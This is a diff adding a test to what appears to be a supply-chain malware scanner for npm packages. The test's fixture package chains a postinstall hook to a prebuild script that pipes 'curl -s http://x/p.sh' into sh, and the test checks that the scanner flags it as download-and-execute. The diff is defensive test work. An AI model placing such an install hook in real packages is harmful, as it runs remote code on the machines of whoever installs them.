@@ -251,3 +251,17 @@ def test_npm_run_cycles_terminate(tmp_path: Path) -> None:
     install = ids(seq, INSTALL)
     assert_in_order(install, ["npm_install_script", "network_request", "collect_system_info"])
     assert not seq.stage_steps(UNREACHED)
+
+
+def test_pre_hook_of_a_script_run_at_install(tmp_path: Path) -> None:
+    package = folder_package(tmp_path, {
+        "package.json": json.dumps({"name": "hooked", "version": "1.0.0", "scripts": {
+            "postinstall": "npm run build", "prebuild": "curl -s http://x/p.sh | sh", "build": "node b.js"}}),
+        "b.js": "const os = require('os');\nos.hostname();\n",
+    })
+    analysis = analyse_package(package, Deadline(60))
+    assert ("download_and_execute", "prebuild") in {(e.behaviour, e.script) for e in analysis.manifest_events}
+    seq = build_sequence(package, analysis, Deadline(60))
+    assert_in_order(ids(seq, INSTALL), ["npm_install_script", "download_and_execute", "collect_system_info"])
+    assert "postinstall > build: node b.js" in [e.label for e in seq.entry_points]
+    assert not seq.stage_steps(UNREACHED)
